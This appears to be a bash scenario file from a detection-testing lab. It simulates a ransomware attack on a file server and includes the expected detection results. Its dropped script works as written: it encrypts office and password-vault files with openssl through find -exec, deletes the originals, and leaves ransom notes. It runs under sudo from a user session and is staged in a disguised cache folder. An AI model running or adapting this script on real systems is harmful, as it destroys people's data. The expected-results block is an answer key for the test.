# openssl over a `find -exec`: alice's session, sudo, a dropped script encrypts office files on the file
# server shares and homes to NAME.enc, deletes each original, and leaves README_RESTORE.txt per directory.
HOST=fs01.corp.example
SUMMARY="Attack: openssl enc run by find -exec from a dropped script (sudo from alice's session); writes FILE.enc, deletes the original, README_RESTORE.txt in every directory hit."
targets() { find "$RT_ROOT/shares" "$RT_ROOT/home" -type f \( -name '*.docx' -o -name '*.xlsx' -o -name '*.pdf' -o -name '*.csv' -o -name '*.odt' -o -name '*.pptx' -o -name '*.kdbx' \); }

scenario_prepare() {
    rt_note_text > "$RT_DROP/n.txt"
    cat > "$RT_DROP/enc.sh" <<'SH'
#!/bin/bash
# encrypt documents, remove originals, drop a note in each directory
K=$(head -c 24 /dev/urandom | base64)
for d in /srv/rt-lab/shares /srv/rt-lab/home; do
  find "$d" -type f \( -name '*.docx' -o -name '*.xlsx' -o -name '*.pdf' -o -name '*.csv' -o -name '*.odt' -o -name '*.pptx' -o -name '*.kdbx' \) \
    -exec sh -c 'openssl enc -aes-256-cbc -pbkdf2 -salt -pass "pass:$0" -in "$1" -out "$1.enc" && rm -f "$1" && cp -n /var/tmp/.font-cache/n.txt "$(dirname "$1")/README_RESTORE.txt"' "$K" {} \;
done
SH
    chmod 755 "$RT_DROP/enc.sh"
    targets | sort > "$RT_OPT.targets"
    N_FILES=$(wc -l < "$RT_OPT.targets"); N_DIRS=$(rt_count_dirs < "$RT_OPT.targets")
}
scenario_run() {
    rt_attack as_login alice "cd /srv/rt-lab/home/alice && ls -la Documents >/dev/null && sudo bash /var/tmp/.font-cache/enc.sh"
}
scenario_verify() {
    local enc notes
    enc=$(find "$RT_ROOT" -name '*.enc' | wc -l); notes=$(find "$RT_ROOT" -name README_RESTORE.txt | wc -l)
    rt_check encrypted "$enc" "$N_FILES" && rt_check notes "$notes" "$N_DIRS" && rt_check originals-left "$(targets | wc -l)" 0
}
scenario_truth() {
    cat <<Y
expected:
  - rootExe: /usr/bin/bash
    rootCommandContains: "enc.sh"
    loginUser: alice
    runAsUser: root
    filesAffected: $N_FILES
    overwrite: new-file-then-delete
    newExtension: .enc
    notes: { name: README_RESTORE.txt, directories: $N_DIRS }
    tools: [openssl, find]
    targetRoots: [/srv/rt-lab/shares, /srv/rt-lab/home]
Y
}
scenario_cleanup() { rm -f "$RT_OPT.targets"; }
